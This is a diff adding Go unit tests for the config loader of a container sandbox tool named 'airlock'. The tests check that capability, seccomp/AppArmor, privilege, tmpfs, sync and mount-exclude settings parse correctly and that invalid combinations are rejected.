+	if strings.Join(cfg.Security.CapDrop, ",") != "AUDIT_WRITE,MKNOD" {
+		t.Errorf("expected NET_RAW granted back, got capDrop %v", cfg.Security.CapDrop)
+	}
+
+	for _, bad := range []string{
+		"security:\n  capAdd: [\"net raw\"]\n",
+		"security:\n  capDrop: [\"\"]\n",
+		"security:\n  hardened: true\nnestedContainers: true\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadSecurityProfiles(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	load := func(content string) (*Config, error) {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return Load(cfgPath)
+	}
+
+	cfg, err := load("security:\n  seccompProfile: security/seccomp.json\n  apparmorProfile: airlock-sandbox\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Security.SeccompProfile != "security/seccomp.json" || cfg.Security.ApparmorProfile != "airlock-sandbox" {
+		t.Errorf("unexpected security profiles: %+v", cfg.Security)
+	}
+
+	for _, bad := range []string{
+		"security:\n  seccompProfile: seccomp.json\n  auditSyscalls: true\n",
+		"security:\n  apparmorProfile: airlock-sandbox\nnestedContainers: true\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadPrivileges(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	load := func(content string) (*Config, error) {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return Load(cfgPath)
+	}
+
+	for content, want := range map[string]bool{
+		"":                                      true,
+		"security:\n  noNewPrivileges: false\n": false,
+		"nestedContainers: true\n":              false,
+		"security:\n  privileged: true\n":       false,
+	} {
+		cfg, err := load(content)
+		if err != nil {
+			t.Fatalf("Load(%q) failed: %v", content, err)
+		}
+		if nnp := cfg.Security.NoNewPrivileges; nnp == nil || *nnp != want {
+			t.Errorf("Load(%q): expected noNewPrivileges %v, got %v", content, want, nnp)
+		}
+	}
+
+	for _, bad := range []string{
+		"security:\n  noNewPrivileges: true\nnestedContainers: true\n",
+		"security:\n  privileged: true\n  hardened: true\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadTmpfs(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	load := func(content string) (*Config, error) {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return Load(cfgPath)
+	}
+
+	cfg, err := load("tmpfs:\n  - target: /tmp/\n    size: 512m\n  - target: /var/cache\n    mode: \"0700\"\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(cfg.Tmpfs) != 2 {
+		t.Fatalf("expected 2 tmpfs entries, got %+v", cfg.Tmpfs)
+	}
+	if got := cfg.Tmpfs[0]; got.Target != "/tmp" || got.Size != 512<<20 || got.Mode != "1777" {
+		t.Errorf("unexpected tmpfs[0]: %+v", got)
+	}
+	if got := cfg.Tmpfs[1]; got.Mode != "0700" {
+		t.Errorf("unexpected tmpfs[1]: %+v", got)
+	}
+
+	for _, bad := range []string{
+		"tmpfs:\n  - target: tmp\n",
+		"tmpfs:\n  - target: /\n",
+		"tmpfs:\n  - target: /tmp\n  - target: /tmp/\n",
+		"tmpfs:\n  - target: /tmp\n    mode: rwx\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadSync(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	load := func(content string) (*Config, error) {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return Load(cfgPath)
+	}
+
+	cfg, err := load("")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Sync != nil {
+		t.Errorf("expected sync to be off by default, got %+v", cfg.Sync)
+	}
+
+	cfg, err = load("sync:\n  ignore: [node_modules, build/out]\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if s := cfg.Sync; s == nil || time.Duration(s.Interval) != 2*time.Second || s.Conflicts != SyncPreferHost || len(s.Ignore) != 2 {
+		t.Errorf("unexpected sync defaults: %+v", s)
+	}
+	cfg, err = load("sync:\n  interval: 500ms\n  conflicts: container\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if s := cfg.Sync; time.Duration(s.Interval) != 500*time.Millisecond || s.Conflicts != SyncPreferContainer {
+		t.Errorf("unexpected sync settings: %+v", s)
+	}
+
+	for _, bad := range []string{
+		"sync:\n  conflicts: newest\n",
+		"sync:\n  interval: 1ms\n",
+		"sync:\n  ignore: [/abs]\n",
+		"sync:\n  ignore: [../up]\n",
+		"sync:\n  ignore: ['[']\n",
+		"containerWorkdir: /src\nmounts:\n  - source: .\n    target: /src\nsync: {}\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
+func TestLoadMountExclude(t *testing.T) {
+	tmpDir := t.TempDir()
+	cfgPath := filepath.Join(tmpDir, "airlock.yaml")
+	load := func(content string) (*Config, error) {
+		if err := os.WriteFile(cfgPath, []byte("name: test\nimage: alpine\n"+content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return Load(cfgPath)
+	}
+
+	cfg, err := load("mounts:\n  - source: .\n    target: /workspace\n    exclude: [node_modules, target/, \"**/.cache\"]\n")
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if got := strings.Join(cfg.Mounts[0].Exclude, ","); got != "node_modules,target/,**/.cache" {
+		t.Errorf("unexpected exclude: %s", got)
+	}
+
+	for _, bad := range []string{
+		"mounts:\n  - source: .\n    target: /workspace\n    exclude: [/abs]\n",
+		"mounts:\n  - source: .\n    target: /workspace\n    exclude: [../up]\n",
+		"mounts:\n  - source: .\n    target: /workspace\n    exclude: ['[']\n",
+		"mounts:\n  - type: volume\n    target: /data\n    exclude: [x]\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}